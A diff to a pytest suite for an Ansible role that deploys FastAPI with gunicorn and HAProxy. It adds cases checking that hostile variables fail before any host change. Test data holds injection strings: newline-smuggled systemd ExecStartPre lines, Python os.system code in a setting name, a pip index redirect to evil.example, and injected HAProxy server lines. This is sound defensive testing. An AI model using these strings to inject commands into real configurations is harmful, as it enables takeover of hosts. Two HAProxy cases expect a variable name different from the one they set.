@@ -1,7 +1,10 @@
-"""Bad input fails before anything changes on the host, with a message naming the variable.
+"""Bad and hostile input fails before anything changes on the host, with a message naming the variable.
 
-Each case runs the real role (argument specs, then the preflight asserts) against a fresh
-container; the play must fail, name the variable, report no change, and leave no trace.
+Each case runs the real role (argument specs, then the preflight checks) against a fresh container;
+the play must fail, name the variable, report no change, and leave no new file and no changed account.
+The hostile cases are the ways a value could smuggle syntax into a unit, a Python file, a command or
+a path: newlines and unit lines, Python code in a setting name, a trailing newline after a valid
+value, an account the role did not create, and numbers out of range.
 """
 
 import json
@@ -13,13 +16,16 @@ from pathlib import Path
 import pytest
 
 ROOT = Path(__file__).resolve().parents[1]
+INJECT = "\nExecStartPre=/bin/touch /tmp/pwned"
 
 CASES = {
+    # Formats and ranges
     "workers zero": ({"fastapi_gunicorn_workers": 0}, "fastapi_gunicorn_workers"),
     "unknown worker class": ({"fastapi_gunicorn_worker_class": "sync"}, "fastapi_gunicorn_worker_class"),
     "bind without port": ({"fastapi_gunicorn_bind": ["localhost"]}, "fastapi_gunicorn_bind"),
     "relative unix socket": ({"fastapi_gunicorn_bind": ["unix:app.sock"]}, "fastapi_gunicorn_bind"),
     "app module without attribute": ({"fastapi_gunicorn_app_module": "main"}, "fastapi_gunicorn_app_module"),
+    "app module calling with arguments": ({"fastapi_gunicorn_app_module": "main:create(open)"}, "fastapi_gunicorn_app_module"),
     "negative timeout": ({"fastapi_gunicorn_timeout": -1}, "fastapi_gunicorn_timeout"),
     "graceful timeout not a number": ({"fastapi_gunicorn_graceful_timeout": "soon"}, "fastapi_gunicorn_graceful_timeout"),
     "jitter above max_requests": (
@@ -29,51 +35,133 @@ CASES = {
     "missing app source": ({"fastapi_gunicorn_app_src": "/nonexistent/app"}, "fastapi_gunicorn_app_src"),
     "release id with a path": ({"fastapi_gunicorn_release_id": "../etc"}, "fastapi_gunicorn_release_id"),
     "relative base dir": ({"fastapi_gunicorn_base_dir": "srv/app"}, "fastapi_gunicorn_base_dir"),
+    "base dir climbing out": ({"fastapi_gunicorn_base_dir": "/srv/../etc"}, "fastapi_gunicorn_base_dir"),
+    "base dir a system directory": ({"fastapi_gunicorn_base_dir": "/usr"}, "fastapi_gunicorn_base_dir"),
+    "base dir the root": ({"fastapi_gunicorn_base_dir": "/"}, "fastapi_gunicorn_base_dir"),
     "bad environment name": ({"fastapi_gunicorn_environment": {"BAD-NAME": "x"}}, "fastapi_gunicorn_environment"),
     "unknown service state": ({"fastapi_gunicorn_service_state": "restarted"}, "fastapi_gunicorn_service_state"),
     "preload not a boolean": ({"fastapi_gunicorn_preload_app": "maybe"}, "fastapi_gunicorn_preload_app"),
     "health path without slash": ({"fastapi_gunicorn_health_path": "health"}, "fastapi_gunicorn_health_path"),
     "keepalive zero": ({"fastapi_gunicorn_keepalive": 0}, "fastapi_gunicorn_keepalive"),
+    "one release kept": ({"fastapi_gunicorn_keep_releases": 1}, "fastapi_gunicorn_keep_releases"),
+    "request line above gunicorn's limit": ({"fastapi_gunicorn_limit_request_line": 9000}, "fastapi_gunicorn_limit_request_line"),
+    # Newlines and unit syntax in values that land in the unit
+    "unit line in the app name": ({"fastapi_gunicorn_app_name": "app" + INJECT}, "fastapi_gunicorn_app_name"),
+    "unit section in the service name": ({"fastapi_gunicorn_service_name": "app\n[Service]" + INJECT}, "fastapi_gunicorn_service_name"),
+    "unit line in the user": ({"fastapi_gunicorn_user": "app" + INJECT}, "fastapi_gunicorn_user"),
+    "unit line in the group": ({"fastapi_gunicorn_group": "app" + INJECT}, "fastapi_gunicorn_group"),
+    "unit line in an extra option value": ({"fastapi_gunicorn_unit_extra_options": {"LimitNPROC": "64" + INJECT}}, "fastapi_gunicorn_unit_extra_options"),
+    "unit line in an extra option name": (
+        {"fastapi_gunicorn_unit_extra_options": {"ExecStartPre=/bin/touch /tmp/pwned\nLimitNPROC": 64}}, "fastapi_gunicorn_unit_extra_options"),
+    "extra option replacing the command": ({"fastapi_gunicorn_unit_extra_options": {"ExecStart": "/bin/sh"}}, "fastapi_gunicorn_unit_extra_options"),
+    "unit line in an environment file": ({"fastapi_gunicorn_environment_files": ["/etc/app.env" + INJECT]}, "fastapi_gunicorn_environment_files"),
+    "specifier in an environment file": ({"fastapi_gunicorn_environment_files": ["/etc/%h.env"]}, "fastapi_gunicorn_environment_files"),
+    "unit line in an environment name": ({"fastapi_gunicorn_environment": {"A" + INJECT: "1"}}, "fastapi_gunicorn_environment"),
+    "control character in an environment value": ({"fastapi_gunicorn_environment": {"A": "one\rtwo"}}, "fastapi_gunicorn_environment"),
+    "NUL in a secret value": ({"fastapi_gunicorn_secret_environment": {"TOKEN": "a\u0000b"}}, "fastapi_gunicorn_secret_environment"),
+    "specifier in a unix socket path": ({"fastapi_gunicorn_bind": ["unix:/run/%n.sock"]}, "fastapi_gunicorn_bind"),
+    "newline in the interpreter path": ({"fastapi_gunicorn_python": "/usr/bin/python3\n/bin/sh"}, "fastapi_gunicorn_python"),
+    "newline in a requirement": ({"fastapi_gunicorn_requirements": ["requests\n--index-url http://evil.example/simple"]}, "fastapi_gunicorn_requirements"),
+    "space in the index URL": ({"fastapi_gunicorn_pip_index_url": "https://mirror.example/simple --trusted-host evil"}, "fastapi_gunicorn_pip_index_url"),
+    "newline in the health path": ({"fastapi_gunicorn_health_path": "/health\nHost: evil"}, "fastapi_gunicorn_health_path"),
+    # Python code in gunicorn_conf.py
+    "code in a setting name": (
+        {"fastapi_gunicorn_extra_settings": {"x = __import__('os').system('touch /tmp/pwned') #": 1}}, "fastapi_gunicorn_extra_settings"),
+    "keyword as a setting name": ({"fastapi_gunicorn_extra_settings": {"import": 1}}, "fastapi_gunicorn_extra_settings"),
+    "dunder as a setting name": ({"fastapi_gunicorn_extra_settings": {"__builtins__": 1}}, "fastapi_gunicorn_extra_settings"),
+    "setting the role owns": ({"fastapi_gunicorn_extra_settings": {"bind": "0.0.0.0:9"}}, "fastapi_gunicorn_extra_settings"),
+    "hook the role owns": ({"fastapi_gunicorn_extra_settings": {"post_worker_init": "x"}}, "fastapi_gunicorn_extra_settings"),
+    # A trailing newline after a valid value
+    "trailing newline in the release id": ({"fastapi_gunicorn_release_id": "v1\n"}, "fastapi_gunicorn_release_id"),
+    "trailing newline in the app module": ({"fastapi_gunicorn_app_module": "main:app\n"}, "fastapi_gunicorn_app_module"),
+    "trailing newline in a bind": ({"fastapi_gunicorn_bind": ["127.0.0.1:8000\n"]}, "fastapi_gunicorn_bind"),
+    "trailing newline in the rollback release": ({"fastapi_gunicorn_rollback_release": "v1\n"}, "fastapi_gunicorn_rollback_release"),
+    # Accounts the role did not create
+    "root as the service user": ({"fastapi_gunicorn_user": "root"}, "fastapi_gunicorn_user"),
+    "a system account as the service user": ({"fastapi_gunicorn_user": "daemon", "fastapi_gunicorn_group": "fastapi_app"}, "fastapi_gunicorn_user"),
+    "a login account as the service user": ({"fastapi_gunicorn_user": "alice", "fastapi_gunicorn_group": "fastapi_app"}, "fastapi_gunicorn_user"),
+    "the code owner as the service user": (
+        {"fastapi_gunicorn_user": "deploy", "fastapi_gunicorn_deploy_owner": "deploy"}, "fastapi_gunicorn_user"),
+    "a system group as the service group": ({"fastapi_gunicorn_group": "shadow"}, "fastapi_gunicorn_group"),
+    "root as the service group": ({"fastapi_gunicorn_group": "root"}, "fastapi_gunicorn_group"),
+    # Ports out of range
+    "port zero": ({"fastapi_gunicorn_bind": ["127.0.0.1:0"]}, "fastapi_gunicorn_bind"),
+    "port above 65535": ({"fastapi_gunicorn_bind": ["127.0.0.1:70000"]}, "fastapi_gunicorn_bind"),
 }
 
+# The HAProxy role writes its variables into haproxy.cfg.
+HAPROXY_CASES = {
+    "frontend port above 65535": ({"fastapi_gunicorn_haproxy_frontend_bind": ["*:70000"]}, "fastapi_gunicorn_haproxy_frontend_bind"),
+    "server port zero": ({"fastapi_gunicorn_haproxy_server_port": 0}, "fastapi_gunicorn_haproxy_server_port"),
+    "config line in an extra line": (
+        {"fastapi_gunicorn_haproxy_backend_extra": ["balance first\nserver evil 203.0.113.9:80"]}, "fastapi_gunicorn_haproxy_defaults_extra"),
+    "config line in a backend name": ({"fastapi_gunicorn_haproxy_backend_name": "app\n  server evil 203.0.113.9:80"}, "fastapi_gunicorn_haproxy_frontend_name"),
+    "config line in the health path": ({"fastapi_gunicorn_haproxy_health_path": "/health\nserver evil"}, "fastapi_gunicorn_haproxy_health_path"),
+    "unknown timeout": ({"fastapi_gunicorn_haproxy_timeouts": {"connect 1s\nbind": 1000}}, "fastapi_gunicorn_haproxy_timeouts"),
+    "app keep-alive below HAProxy's": (
+        {"fastapi_gunicorn_keepalive": 5, "fastapi_gunicorn_haproxy_timeouts": {"http_keep_alive": 10000}}, "fastapi_gunicorn_keepalive"),
+}
 
-def run_role(container, extra_vars):
+# Everything the roles could write: a failed run must leave nothing newer than the marker here.
+WATCHED = "/etc /srv /opt /usr/local /var/lib /var/cache /run/lock"
+
+
+def run_playbook(container, playbook, extra_vars, tags=None):
     env = dict(os.environ, ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"), ANSIBLE_NOCOLOR="1", ANSIBLE_FORCE_COLOR="0")
-    return subprocess.run(
-        [
-            "ansible-playbook", "-i", f"{container},", "-c", "community.docker.docker",
-            "-e", json.dumps(extra_vars), str(ROOT / "tests/playbooks/apply_role.yml"),
-        ],
-        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300,
-    )
+    command = ["ansible-playbook", "-i", f"{container},", "-c", "community.docker.docker", "-e", json.dumps(extra_vars),
+               str(ROOT / "tests" / "playbooks" / playbook)]
+    if tags:
+        command += ["--tags", tags]
+    return subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
 
 
-@pytest.mark.parametrize("case", CASES, ids=list(CASES))
-def test_bad_input_fails_before_any_change(plain_container, case):
-    extra_vars, variable = CASES[case]
-    result = run_role(plain_container, extra_vars)
+def exec_in(container, script):
+    return subprocess.run(["docker", "exec", container, "sh", "-c", script], capture_output=True, text=True, check=True).stdout
+
+
+@pytest.fixture(scope="module")
+def accounts(plain_container):
+    """A login account and a deploy account, as a real host has them."""
+    exec_in(plain_container, "useradd -m -s /bin/bash alice && useradd -m -s /bin/bash deploy")
+    return exec_in(plain_container, "getent passwd alice deploy daemon root")
+
+
+def check_refused(container, accounts, playbook, extra_vars, variable):
+    exec_in(container, "touch /tmp/before-run && sleep 1")
+    result = run_playbook(container, playbook, extra_vars)
     output = result.stdout + result.stderr
     assert result.returncode != 0, output
     assert variable in output, output
     recap = re.search(r"ok=\d+\s+changed=(\d+)\s+unreachable=\d+\s+failed=(\d+)", output)
     assert recap, output
     assert (recap.group(1), recap.group(2)) == ("0", "1"), output
-    # Nothing the role would create exists.
-    probe = subprocess.run(
-        ["docker", "exec", plain_container, "sh", "-c",
-         "ls -d /srv/fastapi_app /etc/fastapi_app /etc/systemd/system/fastapi_app.service 2>/dev/null; id fastapi_app 2>/dev/null"],
-        capture_output=True, text=True,
-    )
-    assert probe.stdout == "", probe.stdout
+    # Nothing new anywhere the roles write, no service account, and the existing accounts as they were.
+    assert exec_in(container, f"find {WATCHED} -newer /tmp/before-run -print 2>/dev/null || true") == ""
+    assert exec_in(container, "getent passwd fastapi_app || true") == ""
+    assert exec_in(container, "getent passwd alice deploy daemon root") == accounts
+    assert exec_in(container, "ls /tmp/pwned 2>/dev/null || true") == ""
 
 
-def test_good_input_passes_preflight(plain_container):
-    """The same harness accepts valid input: the role gets past every check (run only up to them)."""
-    env = dict(os.environ, ANSIBLE_CONFIG=str(ROOT / "ansible.cfg"), ANSIBLE_NOCOLOR="1")
-    result = subprocess.run(
-        ["ansible-playbook", "-i", f"{plain_container},", "-c", "community.docker.docker",
-         "--tags", "always", str(ROOT / "tests/playbooks/apply_role.yml")],
-        cwd=ROOT, env=env, capture_output=True, text=True, timeout=300,
-    )
+@pytest.mark.parametrize("case", CASES, ids=list(CASES))
+def test_bad_input_fails_before_any_change(plain_container, accounts, case):
+    extra_vars, variable = CASES[case]
+    check_refused(plain_container, accounts, "apply_role.yml", extra_vars, variable)
+
+
+@pytest.mark.parametrize("case", HAPROXY_CASES, ids=list(HAPROXY_CASES))
+def test_bad_haproxy_input_fails_before_any_change(plain_container, accounts, case):
+    extra_vars, variable = HAPROXY_CASES[case]
+    check_refused(plain_container, accounts, "apply_haproxy.yml", extra_vars, variable)
+
+
+@pytest.mark.parametrize("playbook", ["apply_role.yml", "apply_haproxy.yml"])
+def test_good_input_passes_the_checks(plain_container, playbook):
+    """The same harness accepts valid input, hostile-looking but legal values included: each role gets
+    past every check (run only up to them)."""
+    legal = {"fastapi_gunicorn_environment": {"A": "100% $HOME \"q\"\nline 2\ttab ü"},
+             "fastapi_gunicorn_secret_environment": {"PEM": "-----BEGIN KEY-----\nabc\n-----END KEY-----\n"},
+             "fastapi_gunicorn_extra_settings": {"backlog": 2048, "raw_env": ["A=1"]},
+             "fastapi_gunicorn_unit_extra_options": {"LimitNPROC": 512}}
+    result = run_playbook(plain_container, playbook, legal, tags="always")
     assert result.returncode == 0, result.stdout + result.stderr
     assert re.search(r"changed=0\s+unreachable=0\s+failed=0", result.stdout), result.stdout
